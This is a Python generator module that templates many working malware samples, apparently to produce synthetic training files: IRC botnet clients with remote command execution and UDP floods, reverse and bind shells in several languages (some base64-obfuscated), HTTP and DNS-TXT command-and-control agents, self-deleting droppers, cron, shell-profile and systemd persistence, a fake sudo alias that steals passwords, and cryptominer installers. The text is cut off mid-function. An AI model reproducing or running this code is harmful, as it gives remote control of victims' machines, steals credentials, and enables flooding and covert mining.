"""train7 script bots, reverse/bind shells, droppers, persistence, floods,
scanners, proxies, cleaners and grabbers: invented, written blind
(README.md). v picks the spelling."""

from t7_common import F, T, rw, hx, ip, dom, host, b64, gzb64, script, crlf, docroot, webrel

PORTS = (443, 8443, 4444, 1337, 53, 8080, 9001, 2083, 5222, 31337)


def port(r):
    return r.choice(PORTS)


def irc_server(r):
    return r.choice(("irc.example.net", "irc.example.org", "chat.example.com", ip(r)))


def chan(r):
    return "#" + r.choice(("x", "bots", "scan", "priv", "zz", rw(r, 4)))


def fake_proc(r):
    return r.choice(("/usr/sbin/httpd", "[kworker/0:1]", "sshd: root@pts/0", "/usr/lib/systemd/systemd-udevd",
                     "php-fpm: pool www", "/sbin/rpcbind -w", "[ksoftirqd/1]", "-bash"))


# 1 Perl IRC bot: nick generator, fork, $0 spoofing, several command sets
def perl_irc(r, v):
    cmds = (
        """    if ($msg =~ /^!sh (.+)/) { my @o = `$1 2>&1`; foreach (@o[0..($#o > 8 ? 8 : $#o)]) { chomp; print $sk "PRIVMSG $ch :$_\\r\\n"; sleep 1; } }
    elsif ($msg =~ /^!get (\\S+) (\\S+)/) { system("wget -q -O $2 $1 || curl -s -o $2 $1"); print $sk "PRIVMSG $ch :got $2\\r\\n"; }
    elsif ($msg =~ /^!udp (\\S+) (\\d+) (\\d+)/) { if (!fork) { udpf($1, $2, $3); exit; } }
    elsif ($msg =~ /^!nick/) { print $sk "NICK " . mknick() . "\\r\\n"; }
    elsif ($msg =~ /^!die/) { exit; }""",
        """    my ($c, @a) = split / /, $msg;
    if ($c eq '.exec') { open(my $p, '-|', join(' ', @a)); while (<$p>) { print $sk "PRIVMSG $ch :$_"; } close $p; }
    elsif ($c eq '.info') { print $sk "PRIVMSG $ch :" . `uname -a` . "\\r\\n"; print $sk "PRIVMSG $ch :uid=" . $< . "\\r\\n"; }
    elsif ($c eq '.join') { print $sk "JOIN $a[0]\\r\\n"; }
    elsif ($c eq '.back') { if (!fork) { back($a[0], $a[1]); exit; } }
    elsif ($c eq '.rm') { unlink $0; }""",
        """    if ($msg =~ /^\\@(\\w+)\\s*(.*)$/) {
        my ($cmd, $arg) = ($1, $2);
        my %h = (
            'cmd'  => sub { return join '', `$arg`; },
            'ps'   => sub { return `ps x`; },
            'pwd'  => sub { return `pwd`; },
            'dl'   => sub { my ($u, $f) = split / /, $arg; return `curl -fsSL $u -o $f && chmod +x $f && ./$f &`; },
            'kill' => sub { exit 0; },
        );
        my $out = $h{$cmd} ? $h{$cmd}->() : '';
        for my $l (split /\\n/, $out) { print $sk "NOTICE $ch :$l\\r\\n"; select(undef, undef, undef, 0.6); }
    }""",
        """    if ($msg =~ /^$nick[:,] (\\w+) ?(.*)/) {
        if ($1 eq 'run') { my $pid = fork; if (!$pid) { exec('/bin/sh', '-c', $2); } }
        if ($1 eq 'flood') { my @p = split / /, $2; unless (fork) { udpf(@p); exit; } }
        if ($1 eq 'scan') { unless (fork) { for my $pt (21, 22, 23, 25, 80, 3306) { my $t = IO::Socket::INET->new(PeerAddr => $2, PeerPort => $pt, Timeout => 1); print $sk "PRIVMSG $ch :$2:$pt open\\r\\n" if $t; } exit; } }
        if ($1 eq 'up') { print $sk "PRIVMSG $ch :" . `uptime`; }
    }""")
    nickgen = r.choice(("sub mknick { my @c = ('a'..'z'); return join('', map { $c[rand @c] } 1..6) . int(rand(99)); }",
                        "sub mknick { my @p = qw(Pc Lnx Srv Web Nod); return $p[rand @p] . '|' . sprintf('%04d', int(rand(9999))); }",
                        "sub mknick { return '[' . ((`uname -n`) =~ /^(\\w{1,4})/)[0] . ']' . int(rand(100000)); }"))
    code = T("""use strict;
use IO::Socket::INET;
use POSIX qw(setsid);
my $server = '@S@';
my $port = @P@;
my $ch = '@C@';
my $proc = '@FP@';
$0 = $proc . "\\0" x 16;
$SIG{'INT'} = 'IGNORE'; $SIG{'HUP'} = 'IGNORE'; $SIG{'TERM'} = 'IGNORE'; $SIG{'CHLD'} = 'IGNORE';
@NG@
my $nick = mknick();
exit if fork;
setsid();
chdir '/';
sub udpf {
    my ($ip, $pt, $sec) = @_;
    my $s = IO::Socket::INET->new(PeerAddr => $ip, PeerPort => $pt || int(rand(65000)), Proto => 'udp') or return;
    my $end = time + ($sec || 30);
    my $pkt = 'X' x 1400;
    while (time < $end) { print $s $pkt; }
}
sub back {
    my ($h, $p) = @_;
    my $c = IO::Socket::INET->new(PeerAddr => $h, PeerPort => $p) or return;
    open(STDIN, '<&', $c); open(STDOUT, '>&', $c); open(STDERR, '>&', $c);
    exec('/bin/sh -i');
}
my $sk;
while (1) {
    $sk = IO::Socket::INET->new(PeerAddr => $server, PeerPort => $port, Proto => 'tcp') or do { sleep 30; next; };
    print $sk "NICK $nick\\r\\nUSER $nick 8 * :$nick\\r\\n";
    while (my $line = <$sk>) {
        $line =~ s/\\r?\\n$//;
        if ($line =~ /^PING (.*)/) { print $sk "PONG $1\\r\\n"; next; }
        if ($line =~ / 00[14] /) { print $sk "JOIN $ch @K@\\r\\n"; }
        if ($line =~ / 433 /) { $nick = mknick(); print $sk "NICK $nick\\r\\n"; }
        next unless $line =~ /^:(\\S+)!\\S+ PRIVMSG \\S+ :(.*)/;
        my ($who, $msg) = ($1, $2);
        next unless $who =~ /^(@ADM@)$/;
@CMDS@
    }
    sleep 10;
}
""", S=irc_server(r), P=r.choice((6667, 6668, 7000, 443, 8080)), C=chan(r), FP=fake_proc(r), NG=nickgen,
             K=rw(r, 6), ADM="|".join(rw(r, 4) for _ in range(2)), CMDS=cmds[v % 4])
    if v == 3:
        return [F(crlf("#!/usr/bin/perl\n" + code), docroot(r) + "/cgi-bin/" + r.choice(("stat.cgi", "c.pl", "counter.cgi")), "perl", "crlf")]
    return [script(r, "perl", code)]


# 2 IRC bots in other languages
def irc_other(r, v):
    s, c = irc_server(r), chan(r)
    if v == 0:
        code = T("""import socket, subprocess, random, string, time, os
NICK = 'u' + ''.join(random.choice(string.digits) for _ in range(6))
def run():
    s = socket.create_connection(('@S@', 6667))
    f = s.makefile('r', encoding='latin-1')
    s.send(('NICK %s\\r\\nUSER %s 0 * :%s\\r\\n' % (NICK, NICK, os.uname()[1])).encode())
    for line in f:
        p = line.split()
        if p and p[0] == 'PING':
            s.send(('PONG ' + p[1] + '\\r\\n').encode())
        elif len(p) > 1 and p[1] == '376':
            s.send(b'JOIN @C@\\r\\n')
        elif 'PRIVMSG' in line and ':!x ' in line:
            cmd = line.split(':!x ', 1)[1].strip()
            out = subprocess.run(cmd, shell=True, capture_output=True, text=True, timeout=60).stdout
            for l in out.splitlines()[:10]:
                s.send(('PRIVMSG @C@ :' + l + '\\r\\n').encode()); time.sleep(0.7)
while True:
    try:
        run()
    except Exception:
        time.sleep(45)
""", S=s, C=c)
        return [script(r, "python", code)]
    if v == 1:
        code = T("""const net = require('net');
const { exec } = require('child_process');
const os = require('os');
const nick = 'n' + Math.random().toString(36).slice(2, 8);
function go() {
  const c = net.connect(6667, '@S@', () => c.write(`NICK ${nick}\\r\\nUSER ${nick} 0 * :${os.hostname()}\\r\\n`));
  let buf = '';
  c.on('data', d => {
    buf += d;
    let i;
    while ((i = buf.indexOf('\\n')) >= 0) {
      const line = buf.slice(0, i).trim(); buf = buf.slice(i + 1);
      if (line.startsWith('PING')) c.write('PONG' + line.slice(4) + '\\r\\n');
      if (/ 001 /.test(line)) c.write('JOIN @C@\\r\\n');
      const m = line.match(/PRIVMSG \\S+ :\\.run (.+)$/);
      if (m) exec(m[1], (e, so, se) => (so + se).split('\\n').slice(0, 8).forEach(l => c.write(`PRIVMSG @C@ :${l}\\r\\n`)));
    }
  });
  c.on('close', () => setTimeout(go, 30000));
  c.on('error', () => {});
}
go();
""", S=s, C=c)
        return [script(r, "js", code)]
    if v == 2:
        code = T("""exec 3<>/dev/tcp/@S@/6667
N="x$RANDOM"
printf 'NICK %s\\r\\nUSER %s 8 * :%s\\r\\n' "$N" "$N" "$(uname -n)" >&3
while read -r line <&3; do
  case "$line" in
    PING*) printf 'PONG %s\\r\\n' "${line#PING }" >&3 ;;
    *" 001 "*) printf 'JOIN @C@\\r\\n' >&3 ;;
    *"PRIVMSG"*":!c "*)
      cmd=${line#*:!c }
      eval "${cmd%$'\\r'}" 2>&1 | head -n 6 | while read -r o; do printf 'PRIVMSG @C@ :%s\\r\\n' "$o" >&3; sleep 1; done ;;
  esac
done
""", S=s, C=c)
        return [script(r, "sh", code)]
    code = T("""require 'socket'
nick = "r#{rand(99999)}"
loop do
  begin
    s = TCPSocket.new('@S@', 6667)
    s.puts "NICK #{nick}\\r\\nUSER #{nick} 0 * :#{nick}\\r\\n"
    while (l = s.gets)
      s.puts "PONG #{l.split[1]}\\r\\n" if l.start_with?('PING')
      s.puts "JOIN @C@\\r\\n" if l =~ / 376 /
      if l =~ /PRIVMSG \\S+ :!e (.+)/
        IO.popen($1.strip) { |io| io.read.lines.first(8).each { |o| s.puts "PRIVMSG @C@ :#{o}"; sleep 1 } }
      end
    end
  rescue StandardError
    sleep 60
  end
end
""", S=s, C=c)
    return [script(r, "ruby", code)]


# 3 Python connect-back in four shapes
def python_connect(r, v):
    h, p = host(r), port(r)
    if v == 0:
        code = T("""import socket, os, pty
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(('@H@', @P@))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.putenv('HISTFILE', '/dev/null')
pty.spawn('/bin/bash')
""", H=h, P=p)
    elif v == 1:
        code = T("""import socket, subprocess, time, os
def once():
    c = socket.create_connection(('@H@', @P@), timeout=30)
    c.settimeout(None)
    c.sendall(('%s %s\\n' % (os.getlogin() if hasattr(os, 'getlogin') else '', os.uname()[1])).encode())
    while True:
        d = c.recv(4096)
        if not d:
            break
        cmd = d.decode(errors='ignore').strip()
        if cmd.startswith('cd '):
            os.chdir(cmd[3:]); c.sendall(b'ok\\n'); continue
        p = subprocess.Popen(cmd, shell=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        c.sendall(p.communicate()[0] or b'\\n')
while True:
    try:
        once()
    except OSError:
        pass
    time.sleep(60)
""", H=h, P=p)
    elif v == 2:
        code = T("""import os, socket, ssl, subprocess
if os.fork():
    os._exit(0)
os.setsid()
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
raw = socket.create_connection(('@H@', @P@))
s = ctx.wrap_socket(raw, server_hostname='@H@')
subprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
""", H=h, P=p)
    else:
        one = "import socket,os,pty;s=socket.socket();s.connect((\"%s\",%d));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"sh\")" % (h, p)
        code = "import base64,sys\nexec(base64.b64decode('%s'))\n" % b64(one)
    return [script(r, "python", code)]


# 4 Perl connect-back
def perl_connect(r, v):
    h, p = host(r), port(r)
    if v == 0:
        code = T("""use Socket;
my ($i, $p) = ('@H@', @P@);
socket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));
if (connect(S, sockaddr_in($p, inet_aton($i)))) {
    open(STDIN, '>&S'); open(STDOUT, '>&S'); open(STDERR, '>&S');
    exec('/bin/sh -i');
}
""", H=h, P=p)
    elif v == 1:
        code = T("""use IO::Socket::INET;
$0 = '@FP@';
exit if fork;
while (1) {
    my $c = IO::Socket::INET->new(PeerAddr => '@H@:@P@', Timeout => 20);
    if ($c) {
        print $c "[" . `id` . "]\\n";
        while (defined(my $l = <$c>)) {
            chomp $l;
            last if $l eq 'exit';
            print $c scalar `$l 2>&1`;
        }
        close $c;
    }
    sleep 120;
}
""", H=h, P=p, FP=fake_proc(r))
    else:
        one = "use Socket;$i=\"%s\";$p=%d;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};" % (h, p)
        code = "my $c = '%s';\n$c =~ tr/A-Za-z0-9+\\/=//cd;\nrequire MIME::Base64;\neval(MIME::Base64::decode_base64($c));\n" % b64(one)
    return [script(r, "perl", code)]


# 5 bash /dev/tcp in files
def dev_tcp(r, v):
    h, p = host(r), port(r)
    if v == 0:
        code = "bash -i >& /dev/tcp/%s/%d 0>&1\n" % (h, p)
        return [script(r, "sh", code)]
    if v == 1:
        code = T("""exec 5<>/dev/tcp/@H@/@P@
while read -r c <&5; do
  [ "$c" = "q" ] && break
  eval "$c" >&5 2>&5
done
exec 5>&-
""", H=h, P=p)
        return [script(r, "sh", code)]
    if v == 2:
        code = T("""#!/bin/bash
# keep a session open
while true; do
  if ! pgrep -f "@P@" >/dev/null; then
    nohup bash -c 'sh -i >/dev/tcp/@H@/@P@ 0<&1 2>&1' >/dev/null 2>&1 &
  fi
  sleep 300
done
""", H=h, P=p)
        return [script(r, "sh", code, shebang="")]
    cmd = b64("bash -c 'exec bash -i &>/dev/tcp/%s/%d <&1'" % (h, p))
    cron = "*/10 * * * * echo %s | base64 -d | bash >/dev/null 2>&1\n" % cmd
    return [F(cron, "var/spool/cron/" + rw(r, 6), "crontab", "crontab")]


# 6 mkfifo+nc, socat, openssl s_client, telnet pipes
def pipe_shells(r, v):
    h, p = host(r), port(r)
    if v == 0:
        code = "rm -f /tmp/.f%s; mkfifo /tmp/.f%s; cat /tmp/.f%s | /bin/sh -i 2>&1 | nc %s %d > /tmp/.f%s\n" % ((hx(r, 3),) * 3 + (h, p) + (hx(r, 3),))
        n = hx(r, 3)
        code = "rm -f /tmp/.f%s; mkfifo /tmp/.f%s; cat /tmp/.f%s | /bin/sh -i 2>&1 | nc %s %d > /tmp/.f%s\n" % (n, n, n, h, p, n)
    elif v == 1:
        code = T("""command -v socat >/dev/null || curl -fsSLo /dev/shm/.s http://@D@/bin/socat
S=$(command -v socat || echo /dev/shm/.s)
chmod +x "$S" 2>/dev/null
while :; do "$S" exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:@H@:@P@; sleep 90; done
""", D=dom(r), H=h, P=p)
    elif v == 2:
        code = T("""mkfifo /tmp/.q$$
/bin/sh -i < /tmp/.q$$ 2>&1 | openssl s_client -quiet -connect @H@:@P@ > /tmp/.q$$
rm -f /tmp/.q$$
""", H=h, P=p)
    else:
        code = T("""telnet @H@ @P1@ | /bin/bash | telnet @H@ @P2@
""", H=h, P1=p, P2=p + 1)
    return [script(r, "sh", code)]


# 7 awk, Ruby, Node, PHP-CLI connect-backs
def other_lang_connect(r, v):
    h, p = host(r), port(r)
    if v == 0:
        code = T("""BEGIN {
  s = "/inet/tcp/0/@H@/@P@"
  while (1) {
    printf "> " |& s
    if ((s |& getline c) <= 0) break
    if (c == "exit") break
    while ((c | getline out) > 0) print out |& s
    close(c)
  }
  close(s)
}
""", H=h, P=p)
        return [script(r, "awk", code)]
    if v == 1:
        code = T("""require 'socket'
c = TCPSocket.new('@H@', @P@)
$stdin.reopen(c); $stdout.reopen(c); $stderr.reopen(c)
exec('/bin/sh -i')
""", H=h, P=p)
        return [script(r, "ruby", code)]
    if v == 2:
        code = T("""(function () {
  const net = require('net'), cp = require('child_process');
  const sh = cp.spawn('/bin/sh', []);
  const c = new net.Socket();
  c.connect(@P@, '@H@', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stderr.pipe(c); });
  c.on('error', () => setTimeout(arguments.callee, 20000));
})();
""", H=h, P=p)
        return [script(r, "js", code)]
    code = T("""<?php
if (function_exists('pcntl_fork') && pcntl_fork() > 0) { exit(0); }
$s = stream_socket_client('tcp://@H@:@P@', $e, $m, 30);
$p = proc_open('/bin/sh -i', array(0 => $s, 1 => $s, 2 => $s), $pipes);
proc_close($p);
""", H=h, P=p)
    return [script(r, "php", code)]


# 8 bind shells
def bind_shell(r, v):
    p = r.choice((31337, 4455, 12345, 2121, 65001, 8889))
    if v == 0:
        code = T("""import socket, subprocess, os, threading
srv = socket.socket(); srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind(('0.0.0.0', @P@)); srv.listen(5)
def h(c):
    if c.recv(64).strip() != b'@K@':
        c.close(); return
    p = subprocess.Popen(['/bin/sh', '-i'], stdin=c, stdout=c, stderr=c)
    p.wait(); c.close()
while True:
    conn, _ = srv.accept()
    threading.Thread(target=h, args=(conn,), daemon=True).start()
""", P=p, K=rw(r, 8))
        return [script(r, "python", code)]
    if v == 1:
        code = T("""use Socket;
$0 = '@FP@';
socket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));
setsockopt(S, SOL_SOCKET, SO_REUSEADDR, 1);
bind(S, sockaddr_in(@P@, INADDR_ANY)) || die;
listen(S, 3);
while (accept(C, S)) {
    if (!fork) {
        open STDIN, '<&C'; open STDOUT, '>&C'; open STDERR, '>&C';
        exec '/bin/bash', '-i';
    }
    close C;
}
""", P=p, FP=fake_proc(r))
        return [script(r, "perl", code)]
    if v == 2:
        code = T("""require('net').createServer(c => {
  const sh = require('child_process').spawn('/bin/sh', ['-i']);
  c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stderr.pipe(c);
}).listen(@P@, '0.0.0.0');
""", P=p)
        return [script(r, "js", code)]
    code = "nohup socat TCP-LISTEN:%d,reuseaddr,fork EXEC:/bin/bash,pty,stderr,setsid >/dev/null 2>&1 &\n" % p
    return [script(r, "sh", code)]


# 9 HTTP-polling agents
def http_poll(r, v):
    c2 = "https://%s/%s" % (dom(r), r.choice(("c", "api/beat", "q.php", "t/" + hx(r, 6))))
    if v == 0:
        code = T("""ID=$(cat /etc/machine-id 2>/dev/null || hostname | md5sum | cut -c1-16)
while :; do
  c=$(curl -fsk -A "Mozilla/5.0" "@C2@?i=$ID") && [ -n "$c" ] && {
    o=$(sh -c "$c" 2>&1 | base64 -w0)
    curl -fsk -X POST -d "i=$ID&o=$o" "@C2@" >/dev/null
  }
  sleep $((30 + RANDOM % 60))
done
""", C2=c2)
        return [script(r, "sh", code)]
    if v == 1:
        code = T("""import urllib.request, subprocess, time, socket, base64, json
ID = socket.gethostname()
while True:
    try:
        t = json.loads(urllib.request.urlopen('@C2@?id=' + ID, timeout=20).read() or b'{}')
        if t.get('cmd'):
            out = subprocess.getoutput(t['cmd'])
            urllib.request.urlopen(urllib.request.Request('@C2@', data=json.dumps({'id': ID, 'tid': t.get('tid'), 'out': base64.b64encode(out.encode()).decode()}).encode()))
        time.sleep(t.get('sleep', 45))
    except Exception:
        time.sleep(300)
""", C2=c2)
        return [script(r, "python", code)]
    if v == 2:
        code = T("""while true; do
  wget -q -O /tmp/.t --header="X-Id: $(whoami)@$(hostname)" "@C2@" && sh /tmp/.t > /tmp/.o 2>&1
  [ -s /tmp/.o ] && wget -q -O /dev/null --post-file=/tmp/.o "@C2@?r=1"
  rm -f /tmp/.t /tmp/.o
  sleep 120
done
""", C2=c2)
        return [script(r, "sh", code)]
    code = T("""<?php
// php-cli agent
cli_set_process_title('@FP@');
$id = substr(md5(gethostname() . get_current_user()), 0, 12);
for (;;) {
    $t = @file_get_contents('@C2@?id=' . $id);
    if ($t) {
        $t = json_decode($t, true);
        ob_start();
        if ($t['t'] === 'php') { eval($t['c']); } else { passthru($t['c']); }
        $o = ob_get_clean();
        @file_get_contents('@C2@', false, stream_context_create(array('http' => array('method' => 'POST', 'content' => http_build_query(array('id' => $id, 'o' => base64_encode($o)))))));
    }
    sleep(60);
}
""", C2=c2, FP=fake_proc(r))
    return [script(r, "php", code)]


# 10 DNS TXT command channel
def dns_txt(r, v):
    zone = r.choice(("t.example.net", "ns1.example.org", "cdn-check.example.com", "q.example.test"))
    if v == 0:
        code = T("""while :; do
  c=$(dig +short TXT "$(hostname | md5sum | cut -c1-8).@Z@" | tr -d '"' | base64 -d 2>/dev/null)
  [ -n "$c" ] && eval "$c" >/dev/null 2>&1
  sleep 600
done
""", Z=zone)
        return [script(r, "sh", code)]
    if v == 1:
        code = T("""import subprocess, base64, time, socket
def txt(name):
    out = subprocess.run(['nslookup', '-type=TXT', name], capture_output=True, text=True).stdout
    for line in out.splitlines():
        if 'text =' in line:
            return line.split('text =', 1)[1].strip().strip('"')
    return ''
while True:
    rec = txt('%s.@Z@' % socket.gethostname().split('.')[0])
    if rec:
        cmd = base64.b64decode(rec).decode()
        res = subprocess.getoutput(cmd)
        for i in range(0, min(len(res), 300), 60):
            chunk = base64.b32encode(res[i:i + 60].encode()).decode().strip('=').lower()
            try:
                socket.gethostbyname('%s.%d.r.@Z@' % (chunk, i))
            except OSError:
                pass
    time.sleep(900)
""", Z=zone)
        return [script(r, "python", code)]
    if v == 2:
        code = T("""use strict;
my $z = '@Z@';
for (;;) {
    my $t = `host -t txt cmd.$z 2>/dev/null`;
    if ($t =~ /"([A-Za-z0-9+\\/=]+)"/) {
        require MIME::Base64;
        my $c = MIME::Base64::decode_base64($1);
        system($c);
    }
    sleep 300 + int(rand(300));
}
""", Z=zone)
        return [script(r, "perl", code)]
    code = T("""<?php
$r = dns_get_record('@X@.@Z@', DNS_TXT);
if ($r && isset($r[0]['txt'])) {
    $c = base64_decode($r[0]['txt']);
    if ($c) { shell_exec($c . ' > /dev/null 2>&1 &'); }
}
""", X=hx(r, 6), Z=zone)
    return [script(r, "php", code)]


# 11 droppers: fetch to /tmp or /dev/shm, chmod, run, delete themselves
def dropper(r, v):
    u = "http://%s/%s" % (dom(r), r.choice(("x86_64", "b/" + hx(r, 6), "dl/" + rw(r, 5) + ".bin", "k")))
    dst = r.choice(("/tmp/.X11-%s" % hx(r, 4), "/dev/shm/.%s" % hx(r, 6), "/var/tmp/.%s" % rw(r, 4), "$HOME/.cache/.%s" % rw(r, 5)))
    if v == 0:
        code = T("""D=@DST@
for g in "curl -fsSL -o" "wget -q -O"; do $g "$D" "@U@" 2>/dev/null && break; done
chmod 755 "$D" && nohup "$D" >/dev/null 2>&1 &
rm -f -- "$0"
history -c
""", DST=dst, U=u)
        return [script(r, "sh", code)]
    if v == 1:
        code = T("""import os, sys, urllib.request, stat, subprocess
p = os.path.expandvars('@DST@')
urllib.request.urlretrieve('@U@', p)
os.chmod(p, stat.S_IRWXU)
subprocess.Popen([p], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
os.remove(os.path.abspath(sys.argv[0]))
""", DST=dst, U=u)
        return [script(r, "python", code)]
    if v == 2:
        code = T("""<?php
$d = '@DST@';
$b = @file_get_contents('@U@');
if (!$b) { $c = curl_init('@U@'); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); $b = curl_exec($c); }
file_put_contents($d, $b);
chmod($d, 0755);
exec('nohup ' . $d . ' > /dev/null 2>&1 &');
@unlink(__FILE__);
echo 'ok';
""", DST=dst.replace("$HOME", "/tmp"), U=u)
        return [F(code, webrel(r), "php", "uploads")]
    code = T("""use strict;
my $d = '@DST@';
system("curl -s @U@ -o $d || wget -q @U@ -O $d || GET @U@ > $d");
chmod 0755, $d;
if (fork() == 0) { exec($d); }
unlink $0;
""", DST=dst.replace("$HOME", "/tmp"), U=u)
    return [script(r, "perl", code)]


# 12 watchdog crontabs (and the script they restart)
def watchdog_cron(r, v):
    d = r.choice((".cache/.d", ".local/share/.%s" % rw(r, 3), ".config/%s" % rw(r, 5), "tmp/.%s" % hx(r, 4)))
    name = r.choice(("kthreadd", "dbus-daemon", "php-worker", "sd-pam", ".u"))
    url = "http://%s/%s" % (dom(r), r.choice(("r.sh", "u", "i.txt")))
    lines = (
        "@reboot $HOME/%s/%s >/dev/null 2>&1\n*/5 * * * * pgrep -f %s >/dev/null || $HOME/%s/%s >/dev/null 2>&1\n" % (d, name, name, d, name),
        "*/3 * * * * [ -x $HOME/%s/%s ] || (curl -fsSL %s -o $HOME/%s/%s; chmod +x $HOME/%s/%s); pidof %s || $HOME/%s/%s\n" % ((d, name, url) + (d, name) * 2 + (name, d, name)),
        "@reboot sleep 60 && nohup /bin/sh $HOME/%s/%s >/dev/null 2>&1 &\n0 * * * * (wget -qO- %s || curl -fsS %s) | sh\n" % (d, name, url, url),
        "MAILTO=\"\"\n* * * * * /bin/sh -c 'kill -0 $(cat /tmp/.%s.pid 2>/dev/null) 2>/dev/null || $HOME/%s/%s & echo $! > /tmp/.%s.pid'\n" % (name, d, name, name),
    )[v % 4]
    body = T("""while :; do
  c=$(curl -fsk http://@D@/hb?u=$(id -un)) && [ -n "$c" ] && sh -c "$c"
  sleep 200
done
""", D=dom(r))
    home = "home/" + rw(r, 6)
    return [F(lines, "var/spool/cron/crontabs/" + home.split("/")[1], "crontab", "crontab"),
            F("#!/bin/sh\n" + body, "%s/%s/%s" % (home, d, name), "sh", "persistence")]


# 13 .bashrc / .profile hooks
def rc_hook(r, v):
    home = "home/" + rw(r, 6)
    base = ("# ~/.bashrc: executed by bash(1) for non-login shells.\n[ -z \"$PS1\" ] && return\nHISTCONTROL=ignoreboth\n"
            "shopt -s histappend\nHISTSIZE=1000\nalias ll='ls -alF'\nalias la='ls -A'\n"
            "if [ -f ~/.bash_aliases ]; then\n    . ~/.bash_aliases\nfi\n")
    h, p = host(r), port(r)
    hook = (
        "(nohup $HOME/.cache/.%s/%s >/dev/null 2>&1 &) 2>/dev/null\n" % (rw(r, 3), r.choice(("dbus", "upd"))),
        "pgrep -u $USER -f .ssh/.x >/dev/null || (curl -fsSL http://%s/p | bash >/dev/null 2>&1 &)\n" % dom(r),
        "export PROMPT_COMMAND='history -a; (bash -i >& /dev/tcp/%s/%d 0>&1 &) 2>/dev/null; unset PROMPT_COMMAND'\n" % (h, p),
        "alias sudo='sudo_(){ read -sp \"[sudo] password for $USER: \" pw; echo; echo \"$pw\" >> ~/.cache/.p; curl -s -d \"p=$pw&u=$USER\" http://%s/s >/dev/null; echo \"$pw\" | command sudo -S \"$@\"; }; sudo_'\n" % dom(r),
    )[v % 4]
    name = (".bashrc", ".profile", ".bash_profile", ".bashrc")[v % 4]
    return [F(base + hook, "%s/%s" % (home, name), "sh", "dotfile")]


# 14 systemd --user units
def systemd_user(r, v):
    home = "home/" + rw(r, 6)
    unit = r.choice(("dbus-session", "pulseaudio-x", "gvfs-sync", "tracker-extract-3", "at-spi-helper"))
    tgt = "%%h/.local/share/.%s/%s" % (rw(r, 4), r.choice(("run", "sd", "x")))
    svc = T("""[Unit]
Description=@D@

[Service]
Type=simple
ExecStart=@X@
Restart=always
RestartSec=30

[Install]
WantedBy=default.target
""", D=r.choice(("D-Bus User Session Helper", "Sound Service", "Virtual filesystem sync", "Indexer")),
           X=(tgt, "/bin/bash -c 'exec bash -i &>/dev/tcp/%s/%d <&1'" % (host(r), port(r)),
              "/usr/bin/python3 %h/.cache/." + rw(r, 5) + ".py", "/bin/sh -c 'curl -fsSL http://%s/u | sh'" % dom(r))[v % 4])
    inst = T("""mkdir -p ~/.config/systemd/user ~/.local/share
curl -fsSL http://@D@/svc -o ~/.config/systemd/user/@U@.service
systemctl --user daemon-reload
systemctl --user enable --now @U@.service
loginctl enable-linger "$(id -un)" 2>/dev/null
""", D=dom(r), U=unit)
    files = [F(svc, "%s/.config/systemd/user/%s.service" % (home, unit), "systemd", "persistence")]
    if v != 1:
        files.append(F("#!/bin/sh\n" + inst, "%s/.cache/%s" % (home, r.choice(("i.sh", ".in", "setup"))), "sh", "persistence"))
    return files


# 15 miner installers (invented pool and wallet)
def miner_installer(r, v):
    wallet = "4" + hx(r, 40) + "EXAMPLEWALLET"
    pool = r.choice(("pool.example.net:3333", "stratum+tcp://mine.example.org:4444", "xmr.example.com:443"))
    d = r.choice(("$HOME/.cache/.sys", "/dev/shm/.x", "/tmp/.ICE-unix/.d", "$HOME/.local/.kworker"))
    if v == 0:
        code = T("""D=@DIR@
mkdir -p "$D" && cd "$D" || exit
pkill -f xmrig; pkill -f kdevtmpfsi; pkill -f kinsing
curl -fsSL http://@DOM@/x.tar.gz | tar xz
mv xmrig kworkerds
cat > config.json <<EOF
{"autosave": true, "cpu": {"enabled": true, "max-threads-hint": 75}, "pools": [{"url": "@POOL@", "user": "@W@", "pass": "$(hostname)", "keepalive": true, "tls": true}]}
EOF
nohup ./kworkerds -c config.json --donate-level=0 >/dev/null 2>&1 &
(crontab -l 2>/dev/null | grep -v kworkerds; echo "@reboot cd $D && ./kworkerds -c config.json") | crontab -
""", DIR=d, DOM=dom(r), POOL=pool, W=wallet)
        return [script(r, "sh", code)]
    if v == 1:
        code = T("""import os, subprocess, urllib.request, tarfile, io, json, multiprocessing
d = os.path.expanduser('~/.cache/.%s' % '@X@')
os.makedirs(d, exist_ok=True)
tarfile.open(fileobj=io.BytesIO(urllib.request.urlopen('http://@DOM@/pkg.tgz').read())).extractall(d)
json.dump({'pools': [{'url': '@POOL@', 'user': '@W@', 'pass': 'x'}], 'cpu': {'max-threads-hint': 50},
           'background': True}, open(os.path.join(d, 'c.json'), 'w'))
for p in ('xmrig', 'minerd', 'cpuminer'):
    subprocess.call(['pkill', '-9', '-f', p])
exe = os.path.join(d, 'php-fpm')
os.rename(os.path.join(d, 'xmrig'), exe)
subprocess.Popen(['nice', '-n', '19', exe, '-c', os.path.join(d, 'c.json'), '-t', str(max(1, multiprocessing.cpu_count() - 1))],
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
""", X=hx(r, 4), DOM=dom(r), POOL=pool, W=wallet)
        return [script(r, "python", code)]
    if v == 2:
        code = T("""<?php
set_time_limit(0);
$d = sys_get_temp_dir() . '/.' . substr(md5(__FILE__), 0, 6);
@mkdir($d);
file_put_contents("$d/a", file_get_contents('http://@DOM@/bin/a'));
chmod("$d/a", 0755);
file_put_contents("$d/c.json", json_encode(array('pools' => array(array('url' => '@POOL@', 'user' => '@W@.' . gethostname())))));
